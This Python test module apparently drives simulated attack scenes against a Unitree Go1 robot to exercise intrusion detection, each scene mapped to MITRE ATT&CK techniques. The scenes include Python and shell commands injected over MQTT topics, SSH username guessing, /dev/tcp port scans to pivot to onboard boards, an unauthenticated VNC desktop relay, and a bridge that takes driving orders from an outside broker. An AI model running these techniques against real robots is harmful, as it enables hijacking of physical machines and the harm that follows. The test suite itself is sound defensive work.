"""Group 4: people who log in, drive, program and upload without being allowed to."""

import sys

from tests.robots.attacks.acting import (
    MQTT_INSIDE,
    SSH_INSIDE,
    door_to,
    drives,
    linger,
    logs_in_and_works,
    on_internet,
    outside_broker,
    outside_program,
    put,
    run,
    ssh_from_pi,
    start,
)
from tests.robots.attacks.draw import Draw
from tests.robots.attacks.scene import Scene, Story
from tests.robots.go1 import Go1, visits
from tests.robots.go1.addresses import HIGH_LEVEL, MQTT, OPERATOR, PI_LAN, PI_PPP, PI_WLAN, UPLOAD
from tests.robots.go1.namespace import Namespace

_ROS = 11311


def _ssh_internet(robot: Go1, draw: Draw) -> None:
    logs_in_and_works(robot, draw, (PI_PPP, 22))


def _mqtt_internet(robot: Go1, draw: Draw) -> None:
    drives(robot, robot.internet, PI_PPP)


def _udp_internet(robot: Go1, draw: Draw) -> None:
    with visits.visitor(robot.internet, "sdk", str(draw.pick("port", [8080, 8090])), PI_PPP, str(HIGH_LEVEL), "50"):
        linger(5)


def _upload_internet(robot: Go1, draw: Draw) -> None:
    with visits.visitor(robot.internet, "uploader", PI_PPP, str(UPLOAD)):
        linger(3)


def _publish(where: Namespace, address: str, port: int, topic: str, payload: str) -> None:
    command = ["mosquitto_pub", "-h", address, "-p", str(port), "-q", "1", "-t", topic, "-m", payload]
    where.run(command)


def _code_internet(robot: Go1, draw: Draw) -> None:
    """programming/code: the robot runs what comes."""
    mark = f"/run/{draw.name('mark')}"
    code = f"import os, time; open({mark!r}, 'w').close(); os.system('id; uname -a; sleep 1'); time.sleep(2)"
    for topic, payload in (("programming/code", code), ("programming/action", "start")):
        _publish(robot.internet, PI_PPP, MQTT, topic, payload)
    linger(4)


def _shell_topic(robot: Go1, draw: Draw) -> None:
    with door_to(robot, draw, MQTT_INSIDE) as (address, door):
        for _ in range(8):
            _publish(robot.internet, address, door, "usys/sh", "id > /tmp/x; uname -a >> /tmp/x")
            linger(0.4)


def _desktop(robot: Go1, draw: Draw) -> None:
    """A shared desktop on loopback, and a relay to it."""
    display = draw.number("display", 10, 60)
    # Where an X server writes is the machine's otherwise.
    robot.pi.run(["sh", "-ec", "for place in /tmp /var/lib/xkb; do mount -t tmpfs tmpfs $place; done"])
    start(robot, ["Xvnc", f":{display}", "-SecurityTypes", "None", "-localhost", "-rfbport", "5900"])
    robot.pi.wait_for(5900)
    with door_to(robot, draw, ("127.0.0.1", 5900), more=["eager"]) as (address, door):
        linger(1)
        with outside_program(robot, "rfb_viewer", address, str(door)):
            linger(6)


def _guessing(robot: Go1, draw: Draw) -> None:
    """Names are tried from the access point; then the stolen key fits."""
    names = draw.order("names", ["root", "admin", "unitree", "ubuntu", "test", "user", "oracle", "git"])
    for name in names:
        command = ["ssh", "-F", "none", "-oBatchMode=yes", "-oStrictHostKeyChecking=no",
                   "-oUserKnownHostsFile=/dev/null",
                   f"{name}@{PI_WLAN}", "true"]  # fmt: skip
        robot.phone.run(command, check=False)
    logs_in_and_works(robot, draw, (PI_WLAN, 22), robot.phone)


def _loopback(robot: Go1, draw: Draw) -> None:
    """Something on the robot logs in to the robot, as another account than its own."""
    command = ssh_from_pi(robot, draw, "pi@127.0.0.1", "id; uname -a; sleep 2; ls -la")
    put(
        robot,
        f"/usr/local/{draw.name('place')}/{draw.name('job')}.sh",
        "exec " + " ".join(map(_quoted, command)) + "\n",
    )
    run(robot, ["sh", f"/usr/local/{draw.name('place')}/{draw.name('job')}.sh"])


def _quoted(word: str) -> str:
    return "'" + word.replace("'", "'\\''") + "'"


def _two(robot: Go1, draw: Draw) -> None:
    """The phone drives, as it may; somebody else takes the wheel through a relay."""
    with visits.phone_drives(robot), door_to(robot, draw, MQTT_INSIDE) as (address, door):
        linger(2)
        drives(robot, robot.internet, address, door)


def _ros(robot: Go1, draw: Draw) -> None:
    """A node of somebody on the internet registers with the robot's master."""
    home = {"PATH": "/usr/bin:/bin", "HOME": "/home/pi", "ROS_LOG_DIR": "/run", "ROS_HOSTNAME": PI_LAN}
    start(robot, ["rosmaster", "--core", "-p", str(_ROS)], env=home)
    robot.pi.wait_for(_ROS)
    code = f"import time, xmlrpc.client as x; m = x.ServerProxy('http://{PI_PPP}:{_ROS}')\n"
    code += f"u = 'http://{OPERATOR}:45000/'\n"
    code += f"print(m.registerPublisher('/{draw.name('node')}', '/cmd_vel', 'geometry_msgs/Twist', u), flush=True)\n"
    code += "time.sleep(12)"
    client = robot.internet.popen([sys.executable, "-c", code])
    client.wait(20)
    assert client.returncode == 0


def _pivot(robot: Go1, draw: Draw) -> None:
    """Logged in through a relay, somebody goes on to a Nano from the robot, and tries who else is there.

    A try that is refused leaves no connection, and its program is gone within milliseconds: not each one is seen.
    """
    tries = [f"timeout 2 bash -c 'echo > /dev/tcp/192.168.123.{board}/22'" for board in (14, 15, 16, 17, 18)]
    with door_to(robot, draw, SSH_INSIDE) as door:
        works = ["curl -s -m 2 http://192.168.123.13/ | head -c 100000 | wc -c", *tries]
        logs_in_and_works(robot, draw, door, commands=works)


def _bot(robot: Go1, draw: Draw) -> None:
    """A program on the robot takes its orders from a broker outside, and drives by the robot's own."""
    address, port = on_internet(robot, draw.address("outside")), draw.pick("port", [1883, 2883, 21883])
    outside_broker(robot, address, port)
    topic = draw.name("topic")
    bridge = f"mosquitto_sub -h {address} -p {port} -t {topic} | mosquitto_pub -h 127.0.0.1 -t controller/action -l"
    start(robot, ["sh", "-c", bridge])
    linger(1.5)
    drives(robot, robot.internet, address, port, topic)


def _alone(robot: Go1, draw: Draw) -> None:
    """A program that somebody left drives the robot by itself; nobody is connected."""
    script = f"/usr/local/{draw.name('place')}/{draw.name('job')}.sh"
    words = " ".join(draw.order("words", ["standUp", "walk", "run", "jumpYaw", "standDown", "dance1"]))
    put(
        robot,
        script,
        f"for word in {words}; do mosquitto_pub -h 127.0.0.1 -t controller/action -m $word; sleep 1; done\n",
    )
    start(robot, ["sh", script]).wait(20)


_INTERNET = ("T1133",)
SCENES = (
    Scene("internet-ssh", 4, "somebody on the internet logs in as pi straight through the modem", _ssh_internet,
          Story("remote-control", "high", ("ssh",), (OPERATOR, "ssh", "pi"), ("remote control", "ssh", "internet"),
                ("T1133", "T1021.004"))),
    Scene("internet-mqtt", 4, "somebody on the internet drives: the broker is open to the modem", _mqtt_internet,
          Story("remote-control", "high", ("mqtt",), (OPERATOR, "mqtt"), ("remote control", "mqtt", "internet"),
                _INTERNET)),
    Scene("internet-udp", 4, "somebody on the internet sends high-level commands by UDP", _udp_internet,
          Story("remote-control", "high", ("udp",), (OPERATOR,), ("remote control", "udp", "internet"), _INTERNET)),
    Scene("internet-upload", 4, "somebody on the internet uploads a program", _upload_internet,
          Story("remote-control", "high", ("web",), (OPERATOR,), ("upload", "internet"), ("T1133", "T1105"))),
    Scene("internet-code", 4, "somebody on the internet sends Python by the broker, and the robot runs it",
          _code_internet,
          Story("remote-control", "high", ("mqtt",), (OPERATOR,), ("mqtt", "internet"), ("T1133", "T1059"))),
    Scene("internet-ros", 4, "a node on the internet registers with the robot's ROS master", _ros,
          Story("remote-control", "high", ("ros",), (OPERATOR,), ("remote control", "ros", "internet"), _INTERNET)),
    Scene("relay-shell-topic", 4, "shell commands come by the broker's usys/sh, through an unnamed relay", _shell_topic,
          Story("remote-control", "high", ("mqtt",), ("{address[outside]}", "{path[relay]}"),
                ("remote control", "mqtt"),
                ("T1572", "T1059"))),
    Scene("relay-desktop", 4, "somebody looks at and uses a shared desktop through an unnamed relay", _desktop,
          Story("remote-control", "high", ("desktop",), ("{address[outside]}", "{path[relay]}"),
                ("remote control", "desktop"),
                ("T1572", "T1021.005"))),
    Scene("guessed-login", 4, "names are tried from the access point until one gets in", _guessing,
          Story("intrusion", "high", ("ssh",), ("192.168.12.90", "ssh", "pi"), ("ssh",), ("T1110",))),
    Scene("loopback-login", 4, "a script on the robot logs in to the robot", _loopback,
          Story("intrusion", "medium", ("ssh",), ("ssh", "pi"), ("login from the robot itself",), ("T1021.004",))),
    Scene("two-controllers", 4, "while the phone drives, somebody else drives through an unnamed relay", _two,
          Story("remote-control", "high", ("mqtt",), ("{address[outside]}", "{path[relay]}"),
                ("remote control", "mqtt"),
                ("T1572",))),
    Scene("relay-pivot", 4, "logged in through an unnamed relay, somebody goes on to the Nanos", _pivot,
          Story("remote-control", "high", ("ssh",), ("{address[outside]}", "{path[relay]}", "ssh", "pi"),
                ("remote control", "ssh"), ("T1572", "T1021.004", "T1046"))),
    Scene("moves-alone", 4, "a program that somebody left drives the robot, and nobody is connected", _alone,
          Story("intrusion", "medium", ("mqtt",), ("mqtt",), ("moves",), ("T0855",))),
    Scene("broker-bridge", 4, "two of mosquitto's own clients carry orders from a broker outside to the robot's", _bot,
          Story("remote-control", "high", ("mqtt",), ("{address[outside]}",), ("remote control", "mqtt"), ("T1071",))),
)  # fmt: skip
